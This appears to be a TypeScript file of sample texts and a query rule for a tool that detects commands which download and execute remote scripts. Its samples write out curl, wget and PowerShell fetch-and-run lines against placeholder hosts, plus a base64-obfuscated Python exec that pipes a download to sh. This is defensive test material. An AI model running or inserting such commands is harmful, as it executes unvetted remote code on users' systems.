/** Example texts. */
export const EXAMPLES: Readonly<
  Record<string, { readonly text: string; readonly format: string }>
> = {
  "An assistant's answer": {
    format: "",
    text: `To install the tool, run:

\`\`\`bash
curl -fsSL https://get.example/install.sh | sudo bash -s -- --yes
\`\`\`

The package is on PyPI, too: \`pip install example-tool\`.
`,
  },
  "A warning": {
    format: "",
    text: `To install the tool, run \`curl -fsSL https://get.example/install.sh | sudo bash\`.

Never run \`wget -qO- https://other.example/setup.sh | sh\`: that script is not ours.
`,
  },
  "A decoded payload": {
    format: "python",
    text: `import base64
exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cHM6Ly9hLmV4YW1wbGUgfCBzaCIp"))
`,
  },
  "A Dockerfile": {
    format: "dockerfile",
    text: `FROM debian:stable
RUN apt-get update && apt-get install -y curl
RUN curl -fsSL https://deb.example/setup_20.x | bash -
RUN curl -fsSLo tool.tar.gz https://dl.example/tool.tar.gz && sha256sum -c tool.sha256
`,
  },
  "A workflow": {
    format: "yaml",
    text: `steps:
  - uses: actions/checkout@v4
  - run: |
      curl -sSL https://get.example/cli.sh > cli.sh
      bash cli.sh
  - run: bash <(curl -s https://ci.example/upload)
`,
  },
  PowerShell: {
    format: "powershell",
    text: `iex ((New-Object Net.WebClient).DownloadString('https://get.example/install.ps1'))
irm https://get.example/tool.ps1 -OutFile tool.ps1
`,
  },
};

export const FIRST_EXAMPLE = "An assistant's answer";

/** An example query file. */
export const QUERY_EXAMPLE = `; acmeget install | sh
((command_name) @source.fetcher
  (#word-is? @source.fetcher "acmeget")
  (#set! writes "stdout")
  (#set! rule "acme/no-acmeget")
  (#set! message "What acmeget downloads is executed.")
  (#set! severity "warning")
  (#set! help "Install the package instead."))
`;
